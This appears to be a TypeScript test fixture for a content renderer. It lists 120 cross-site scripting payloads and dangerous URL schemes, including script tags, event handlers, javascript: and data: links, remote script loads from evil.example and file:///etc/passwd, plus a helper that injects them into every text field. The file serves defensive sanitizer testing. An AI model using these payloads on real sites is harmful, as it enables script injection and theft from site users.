/** Scripts, as people have tried to get them past renderers: 60 in text, 60 as links. */
const scripts = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '<xmp></xmp><script>alert(1)</script>',
  '<plaintext><script>alert(1)</script>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" onfocus="alert(1)" autofocus="',
  '"\u000Conmouseover=alert(1) x="',
  'x" href="javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&"><script>alert(1)</script>',
  '\u2028alert(1)\u2029<script>alert(1)</script>',
  '${alert(1)}<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}<script>alert(1)</script>',
  '<p/onclick=alert(1)>x</p>',
]

const schemes = [
  'javascript:alert(1)',
  'JavaScript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'jAvAsCrIpT:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  '\njavascript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u001Fjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'java\r\nscript:alert(1)',
  'javascript\t:alert(1)',
  'javascript\n:alert(1)',
  'j\na\nv\na\ns\nc\nr\ni\np\nt:alert(1)',
  'javascript://example.org/%0Aalert(1)',
  'javascript://https://example.org/\nalert(1)',
  'javascript:%61lert(1)',
  'javascript:void(0)',
  'javascript:"<script>alert(1)</script>"',
  'javascript:&quot;alert(1)&quot;',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '\u00A0javascript:alert(1)',
  '\uFEFFjavascript:alert(1)',
  '\u2028javascript:alert(1)',
  'ｊavascript:alert(1)',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'jar:https://evil.example/x.jar!/x.htm',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload="alert(1)"/>',
  'data:application/xhtml+xml,<x/>',
  'data:,alert(1)',
  'blob:https://news.example/1',
  'filesystem:https://news.example/temporary/x',
  'file:///etc/passwd',
  'ftp://evil.example/x',
  'about:blank',
  'chrome://settings',
  'ms-its:mhtml:file://x',
  'intent://x#Intent;scheme=http;end',
  'tel:javascript:alert(1)',
  '//evil.example/x',
  '/\\evil.example',
  '\\\\evil.example',
  'https:javascript:alert(1)" onmouseover="alert(1)',
  'https://evil.example/" onmouseover="alert(1)',
  "https://evil.example/' onmouseover='alert(1)",
]

/** What an attacker who may write content writes into it. */
export const payloads: readonly string[] = [...scripts, ...schemes]

// What the shape of an answer hangs on; a dataset that breaks it does not get past the validators.
const structure = new Set(
  (
    '_type _id _key marks style listItem display slug quoteType verification medium relation role ' +
    'kind scheme stance claimType status articleType section sourceType identification typology ' +
    'reason digitalSourceType occurrenceStatus datePublished'
  ).split(' '),
)

/** The same content with a payload in every field that holds text or a link. */
export function poisoned<Value>(value: Value, payload: string): Value {
  const spoil = (one: unknown, key = ''): unknown => {
    if (typeof one === 'string') return structure.has(key) ? one : payload
    if (Array.isArray(one)) return one.map((item) => spoil(item, key))
    if (typeof one !== 'object' || one === null) return one
    return Object.fromEntries(
      Object.entries(one).map(([name, field]) => [name, spoil(field, name)]),
    )
  }
  // Only the contents of strings change, never the shape.
  return spoil(value) as Value
}
